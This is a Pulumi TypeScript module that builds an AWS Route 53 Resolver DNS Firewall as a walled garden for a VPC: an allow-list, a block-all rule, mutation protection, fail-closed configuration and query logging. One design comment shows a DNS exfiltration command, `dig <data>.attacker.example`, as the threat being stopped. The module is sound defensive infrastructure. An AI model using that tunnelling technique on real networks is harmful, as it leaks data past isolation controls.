import * as aws from "@pulumi/aws";
import * as pulumi from "@pulumi/pulumi";
import { DNS_FIREWALL_DEFAULTS } from "./defaults";
import { DNS_DOMAIN_PATTERN } from "./dnsAllowList";

export interface DnsFirewallArgs {
    /** The VPC whose Resolver queries are filtered and logged. Required. */
    vpcId: pulumi.Input<string>;
    /** Prefix of the resource names (`<organization>-<environment>`). Required. */
    namePrefix: string;
    /** Domain specifications the VPC may resolve (dnsAllowList.ts). Required, at least one; `*` is refused. */
    allowedDomains: string[];
    /**
     * Where Resolver query logs go: the audit archive bucket's ARN (S3), or a log group or
     * Firehose stream ARN. Required: a blocked exfiltration attempt is evidence (N11, G5).
     */
    queryLogDestinationArn: pulumi.Input<string>;
    /** Priority of the rule group among the VPC's rule groups (100 to 9900). Default 101: evaluated first. */
    ruleGroupPriority?: number;
}

/** Rule group association priorities AWS accepts (AssociateFirewallRuleGroup, Route 53 Resolver API Reference). */
const ASSOCIATION_PRIORITY_RANGE = { min: 100, max: 9900 } as const;

/**
 * N11: Route 53 Resolver DNS Firewall on a VPC as a walled garden. One rule allows the platform's
 * domains, the next blocks every other name with NXDOMAIN; the association is mutation-protected;
 * the VPC's firewall config fails closed (a query the firewall cannot evaluate is blocked, not
 * let through); every query is logged. Without it a notebook in the "no internet" VPC reaches any
 * name server on the internet through the Resolver (`dig <data>.attacker.example`).
 */
export class DnsFirewall extends pulumi.ComponentResource {
    readonly ruleGroup: aws.route53.ResolverFirewallRuleGroup;
    readonly association: aws.route53.ResolverFirewallRuleGroupAssociation;
    readonly config: aws.route53.ResolverFirewallConfig;
    readonly queryLogConfig: aws.route53.ResolverQueryLogConfig;

    constructor(name: string, args: DnsFirewallArgs, opts?: pulumi.ComponentResourceOptions) {
        super("secure-ds:network:DnsFirewall", name, {}, opts);
        const D = DNS_FIREWALL_DEFAULTS;
        const priority = args.ruleGroupPriority ?? D.ruleGroupPriority;
        const { min, max } = ASSOCIATION_PRIORITY_RANGE;
        if (!Number.isInteger(priority) || priority < min || priority > max) {
            throw new Error(`DnsFirewall ${name}: ruleGroupPriority ${priority} must be a whole number from ${min} to ${max}.`);
        }
        if (args.allowedDomains.length === 0) throw new Error(`DnsFirewall ${name}: allowedDomains is empty; the VPC could resolve nothing.`);
        const bad = args.allowedDomains.filter((d) => !DNS_DOMAIN_PATTERN.test(d));
        if (bad.length > 0) {
            throw new Error(`DnsFirewall ${name}: ${bad.join(", ")} not a domain name (optionally starting with "*."); "*" alone would allow every name.`);
        }
        const child = { parent: this };
        const allowed = new aws.route53.ResolverFirewallDomainList(
            `${name}-allowed`,
            { name: `${args.namePrefix}-allowed`, domains: args.allowedDomains },
            child,
        );
        const everything = new aws.route53.ResolverFirewallDomainList(`${name}-everything`, { name: `${args.namePrefix}-everything`, domains: ["*"] }, child);
        this.ruleGroup = new aws.route53.ResolverFirewallRuleGroup(`${name}-rules`, { name: `${args.namePrefix}-walled-garden` }, child);
        new aws.route53.ResolverFirewallRule(
            `${name}-allow-platform`,
            {
                name: "allow-platform-domains",
                firewallRuleGroupId: this.ruleGroup.id,
                firewallDomainListId: allowed.id,
                action: "ALLOW",
                priority: D.allowRulePriority,
                // The allowed names are AWS's: their CNAME chains (S3's regional aliases) end at AWS
                // names an attacker's name server never answers.
                firewallDomainRedirectionAction: "TRUST_REDIRECTION_DOMAIN",
            },
            child,
        );
        new aws.route53.ResolverFirewallRule(
            `${name}-block-rest`,
            {
                name: "block-everything-else",
                firewallRuleGroupId: this.ruleGroup.id,
                firewallDomainListId: everything.id,
                action: "BLOCK",
                blockResponse: "NXDOMAIN",
                priority: D.blockRulePriority,
            },
            child,
        );
        this.association = new aws.route53.ResolverFirewallRuleGroupAssociation(
            `${name}-association`,
            {
                name: `${args.namePrefix}-walled-garden`,
                firewallRuleGroupId: this.ruleGroup.id,
                vpcId: args.vpcId,
                priority,
                // Removing or changing the association needs mutation protection turned off first: one more, logged, step.
                mutationProtection: "ENABLED",
            },
            child,
        );
        this.config = new aws.route53.ResolverFirewallConfig(`${name}-config`, { resourceId: args.vpcId, firewallFailOpen: "DISABLED" }, child);
        this.queryLogConfig = new aws.route53.ResolverQueryLogConfig(
            `${name}-query-logs`,
            { name: `${args.namePrefix}-dns-queries`, destinationArn: args.queryLogDestinationArn },
            child,
        );
        new aws.route53.ResolverQueryLogConfigAssociation(
            `${name}-query-logs-association`,
            { resolverQueryLogConfigId: this.queryLogConfig.id, resourceId: args.vpcId },
            child,
        );
        this.registerOutputs({ ruleGroupId: this.ruleGroup.id, queryLogConfigId: this.queryLogConfig.id });
    }
}
